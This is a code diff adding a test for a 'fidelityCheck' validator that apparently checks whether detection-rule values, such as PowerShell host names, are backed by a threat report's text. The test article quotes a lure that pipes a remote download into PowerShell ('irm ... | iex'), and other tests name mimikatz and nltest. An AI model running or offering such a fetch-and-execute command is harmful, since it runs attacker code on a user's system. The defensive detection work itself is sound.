@@ -12,6 +12,11 @@ describe('fidelityCheck', () => {
     expect(fidelityCheck(['\\sc.exe', '\\nltest.exe', 'WinSvcHost', '/domain_trusts'], article(text), noObservables)).toEqual({ ok: true, unsupported_values: [] });
   });
 
+  it('accepts both PowerShell hosts for a rule on PowerShell code the article shows', () => {
+    expect(fidelityCheck(['\\powershell.exe', '\\pwsh.exe', 'irm '], article("The lure has the user paste irm 'https://203.0.113.7/a' | iex."), noObservables).ok).toBe(true);
+    expect(fidelityCheck(['\\pwsh.exe'], article('The actor ran cmd.exe /c whoami.'), noObservables).ok).toBe(false);
+  });
+
   it('flags a value the article does not state, and a program name found only inside another word', () => {
     const text = 'The actor ran describe.ps1 from a scheduled task.';
     expect(fidelityCheck(['\\sc.exe', '\\mimikatz.exe', 'describe.ps1'], article(text), noObservables)).toEqual({ ok: false, unsupported_values: ['\\sc.exe', '\\mimikatz.exe'] });
